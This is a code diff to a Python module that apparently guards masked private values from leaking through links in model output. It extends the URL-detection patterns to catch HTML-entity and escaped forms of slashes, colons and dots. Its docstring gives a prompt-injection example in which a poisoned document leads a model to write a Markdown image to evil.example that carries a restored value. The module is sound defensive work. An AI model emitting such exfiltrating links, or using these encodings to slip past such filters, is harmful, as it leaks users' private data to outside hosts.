@@ -2,7 +2,7 @@
 
 A poisoned document can make a model write ``![x](https://evil.example/?q=⟦ID_…⟧)``: the reader's browser would take the
 restored value there. So it errs towards "inside". What counts: everything after a scheme, ``//``, ``www.`` or a host
-with a path, up to white space or an angle bracket (GitHub's extended autolinks reach that far: GFM 0.29, 6.9); the
+with a path, up to ASCII white space or ``<`` (GitHub's extended autolinks reach that far: GFM 0.29, 6.9); the
 target of a Markdown link or image; everything within an HTML tag or ``<scheme:…>``; and host names. It knows no mask.
 """
 
@@ -11,13 +11,14 @@ from __future__ import annotations
 import re
 
 _START = re.compile(
-    r"://|//|\\\\|www\.|mailto:|javascript:|\w\.[^\W\d_]{2,24}(?::\d{1,5})?[/?#]"
+    r":\\?/\\?/|//|\\\\|&(?:#0*(?:47|58|92)|#x0*(?:2f|3a|5c)|sol|colon|bsol);|www\.|mailto:|javascript:|\w\.[^\W\d_]{2,24}(?::\d{1,5})?[/?#]"
     r"|\d\.\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d{1,5})?[/?#]|localhost(?::\d{1,5})?[/?#]",
     re.IGNORECASE,
 )
 _REACH = 64
 """More than any match of ``_START`` is long."""
-_SIGNS = re.compile(r"[/?#:.\\]")
+_SIGNS = re.compile(r"[/?#:.;\\]")
+_ENDS = " \t\n\v\f\r<"
 _TURN = re.compile(r"\]\(|<[A-Za-z/!?]")
 _TARGET_END = re.compile(r"[()\n<\\]")
 _NAME_END = re.compile(r"[^A-Za-z0-9:\-]")
@@ -173,11 +174,8 @@ class Zone:
 
 
 def _last_run(text: str) -> str:
-    """What comes after the last white space or angle bracket."""
-    if text[-1].isspace():
-        return ""
-    run = text.rsplit(None, 1)[-1]
-    return run[max(run.rfind("<"), run.rfind(">")) + 1 :]
+    """What comes after the last thing that ends a URL for GitHub's parser: ASCII white space, or ``<``."""
+    return text[max(map(text.rfind, _ENDS)) + 1 :]
 
 
 _LABEL = re.compile(r"[\w\-⟦⟧]{0,63}")
@@ -192,6 +190,17 @@ _AHEAD = 8
 HELD = 63 + _AHEAD
 
 
+_ENTITY = re.compile(r"&(?:#(?:0|46|64|58|x0|x2e|x40|x3a)|period|commat|colon)", re.IGNORECASE)
+_ENTITY_BEGUN = re.compile(r"&[#a-z0-9]{0,6}\Z", re.IGNORECASE)
+
+
+def _named(text: str, at: int, *, final: bool) -> bool | None:
+    """Whether an HTML entity at ``at`` is a dot, an at sign or a colon: a renderer sees the sign."""
+    if _ENTITY.match(text, at) is not None:
+        return True
+    return None if not final and _ENTITY_BEGUN.match(text, at) is not None else False
+
+
 def host_follows(text: str, at: int, *, final: bool) -> bool | None:
     """Whether what ends at ``at`` is the beginning of a host name, a scheme or an address; None: not known yet.
 
@@ -202,6 +211,8 @@ def host_follows(text: str, at: int, *, final: bool) -> bool | None:
     end = found.end()
     if end == len(text):
         return False if final or end - at >= 63 else None
+    if text[end] == "&":
+        return _named(text, end, final=final)
     if text[end] not in ".@:\uff0e\uff20\uff1a":  # browsers read full-width signs in hosts as plain ones
         return False
     after = text[end + 1 : end + 1 + _AHEAD]
